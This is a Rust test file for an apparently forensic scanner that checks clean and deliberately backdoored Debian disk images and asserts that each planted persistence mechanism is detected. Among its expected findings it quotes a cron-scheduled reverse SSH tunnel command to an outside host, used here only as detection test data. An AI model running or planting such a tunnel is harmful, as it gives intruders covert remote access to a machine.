//! A real Debian system: read as its source folder says, silent when clean, and every plant found.
//!
//! The images are made once by tests/recipes/debian.sh, below the build folder; where root, network or a tool
//! is missing, the tests say so and are skipped.
use crate::common::{have, report, run};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

/// The folder with clean.img, planted.img and starts.img; `None` where they cannot be made.
fn images() -> Option<&'static Path> {
    static MADE: OnceLock<Option<PathBuf>> = OnceLock::new();
    MADE.get_or_init(|| {
        let folder = std::env::var_os("CRANESCOPE_DEBIAN")
            .map_or_else(|| Path::new(env!("CARGO_TARGET_TMPDIR")).join("debian"), PathBuf::from);
        if folder.join("done-3").exists() {
            return Some(folder);
        }
        if !["debootstrap", "mke2fs", "sfdisk", "go", "ssh-keygen", "python3"].into_iter().all(have) {
            return None;
        }
        let is_root = Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout == b"0\n");
        if !is_root {
            eprintln!("skipped: debootstrap needs root");
            return None;
        }
        let recipe = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/recipes/debian.sh");
        let made = Command::new("bash").arg(recipe).arg(&folder).output().unwrap();
        if made.status.success() {
            return Some(folder);
        }
        let log = std::fs::read_to_string(folder.join("debootstrap.log")).unwrap_or_default();
        let no_network =
            ["Failed getting release file", "Could not resolve", "Couldn't download"].iter().any(|w| log.contains(w));
        assert!(no_network, "the recipe failed: {}", String::from_utf8_lossy(&made.stderr));
        eprintln!("skipped: no Debian mirror can be reached");
        None
    })
    .as_deref()
}

fn examine(name: &str) -> Option<serde_json::Value> {
    let image = images()?.join(format!("{name}.img"));
    let folder = tempfile::tempdir().unwrap();
    let (code, _, err) = run(
        folder.path(),
        &["examine", image.to_str().unwrap(), "--json", "r.json", "--quiet", "--as-of", "2026-06-01"],
    );
    assert_eq!(code, 0, "{err}");
    Some(report(&folder.path().join("r.json")))
}

fn severe<'a>(json: &'a serde_json::Value, severities: &[&str]) -> Vec<&'a serde_json::Value> {
    let all = json["findings"].as_array().unwrap().iter();
    all.filter(|f| severities.contains(&f["severity"].as_str().unwrap())).collect()
}

#[test]
fn the_clean_system_is_read_exactly_and_raises_nothing() {
    let Some(json) = examine("clean") else { return };
    let loud = severe(&json, &["critical", "high"]);
    assert!(loud.is_empty(), "{loud:#?}");
    assert!(severe(&json, &["medium"]).len() <= 5);
    assert!(json["gaps"].as_array().unwrap().is_empty(), "{}", json["gaps"]);
    // The oracle: what the folder held before mke2fs made a file system of it.
    let folder = images().unwrap();
    let rows = json["inventory"]["files"].as_array().unwrap();
    let ours: BTreeMap<&str, &serde_json::Value> = rows.iter().map(|r| (r["path"].as_str().unwrap(), r)).collect();
    let mut entries = 0;
    for line in std::fs::read_to_string(folder.join("clean.entries")).unwrap().lines() {
        let [path, kind, size, mtime, uid, gid, mode] = line.split('\t').collect::<Vec<_>>()[..] else {
            panic!("{line}")
        };
        let row = ours.get(format!("/{path}").as_str()).unwrap_or_else(|| panic!("{path} is missing"));
        let word = match kind {
            "f" => "file",
            "d" => "directory",
            "l" => "symlink",
            "c" => "char-device",
            other => panic!("{path}: {other}"),
        };
        assert_eq!(row["kind"], word, "{path}");
        assert_eq!(row["uid"].to_string(), uid, "{path}");
        assert_eq!(row["gid"].to_string(), gid, "{path}");
        if kind != "l" {
            assert_eq!(u32::from_str_radix(row["mode"].as_str().unwrap(), 8), u32::from_str_radix(mode, 8), "{path}");
        }
        if kind == "f" {
            assert_eq!(row["size"].to_string(), size, "{path}");
            let seconds: i64 = mtime.split('.').next().unwrap().parse().unwrap();
            let time = cranescope::base::Time::parse(row["modified"].as_str().unwrap()).unwrap();
            assert_eq!(time.seconds, seconds, "{path}");
        }
        entries += 1;
    }
    assert!(entries > 10_000);
    let mut hashes = 0;
    for line in std::fs::read_to_string(folder.join("clean.sha256")).unwrap().lines() {
        let (hash, path) = line.split_once('\t').unwrap();
        // sha256sum marks a name that it had to escape with a backslash before the hash.
        let (hash, path) = match hash.strip_prefix('\\') {
            Some(hash) => (hash, path.replace("\\\\", "\\")),
            None => (hash, path.to_owned()),
        };
        let row = ours.get(format!("/{path}").as_str()).unwrap_or_else(|| panic!("{path} is missing"));
        assert_eq!(row["sha256"], hash, "{path}");
        hashes += 1;
    }
    assert!(hashes > 10_000);
}

#[test]
fn every_plant_is_found_once_at_its_rung_and_nothing_else() {
    let Some(json) = examine("planted") else { return };
    let found: Vec<(String, String, String)> = severe(&json, &["critical", "high"])
        .into_iter()
        .map(|f| {
            let text = |key: &str| f[key].as_str().unwrap_or("-").to_owned();
            (text("rule"), text("rung"), text("subject"))
        })
        .collect();
    let key = found.iter().find(|f| f.0 == "root-accepts-ssh-key").map(|f| f.2.clone()).unwrap_or_default();
    let expected: &[(&str, &str, &str)] = &[
        // The gsm profile, the ppp peer with its script and the log lines are one link: there is one modem.
        ("cellular-link", "used", "modem 2c7c:0125"),
        ("cellular-link", "configured", "driver sierra_net"),
        ("cellular-link", "altered", "driver qmi_wwaq"),
        ("remote-access-path", "enabled", "program /usr/lib/systemd/systemd-netwatchd"),
        (
            "remote-access-path",
            "enabled",
            "scheduled command 'ssh -N -R 2222:localhost:22 -i /etc/cron.d/.k sync@203.0.113.5'",
        ),
        ("remote-access-path", "altered", "program /usr/sbin/sshd"),
        ("root-accepts-ssh-key", "-", &key),
    ];
    let mut expected: Vec<_> =
        expected.iter().map(|(a, b, c)| ((*a).to_owned(), (*b).to_owned(), (*c).to_owned())).collect();
    let mut found = found;
    expected.sort();
    found.sort();
    assert_eq!(found, expected);
    // The chain of the one link names each of its plants.
    let link = json["findings"].as_array().unwrap().iter().find(|f| f["subject"] == "modem 2c7c:0125").unwrap();
    let paths: Vec<&str> = link["evidence"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    for path in [
        "/etc/NetworkManager/system-connections/crane.nmconnection",
        "/etc/ppp/peers/wan",
        "/etc/network/interfaces.d/wan",
        "/var/log/syslog",
    ] {
        assert!(paths.contains(&path), "{path} is not in {paths:?}");
    }
}

/// One plant of each way in which a program starts: who, when, enabled or not, the program, the file that says so.
#[test]
fn every_way_of_starting_is_found_and_leads_to_its_program() {
    let Some(json) = examine("starts") else { return };
    let rows = json["inventory"]["starts"].as_array().unwrap();
    let text = |row: &serde_json::Value, key: &str| row[key].as_str().unwrap_or_default().to_owned();
    let (mut plants, mut kinds, mut missing) = (0, std::collections::BTreeSet::new(), Vec::new());
    for line in std::fs::read_to_string(images().unwrap().join("starts.expected")).unwrap().lines() {
        let [by, when, enabled, program, file] = line.split('\t').collect::<Vec<_>>()[..] else { panic!("{line}") };
        let fits = |r: &&serde_json::Value| {
            text(r, "by") == by
                && text(r, "when") == when
                && r["enabled"] == (enabled == "true")
                && text(r, "program") == program
                && text(&r["evidence"], "path") == file
        };
        match rows.iter().find(fits) {
            // A plant belongs to no package, and its bytes lie in the image.
            Some(row) => {
                assert_eq!(text(row, "package_check"), "unowned", "{line}");
                assert!(!row["evidence"]["image_runs"].as_array().unwrap().is_empty(), "{line}");
            }
            None => missing.push(line.to_owned()),
        }
        plants += 1;
        kinds.insert(by.to_owned());
    }
    assert!(missing.is_empty(), "{missing:#?}");
    assert!(plants >= 100 && kinds.len() >= 60, "{plants} plants, {} kinds", kinds.len());
}
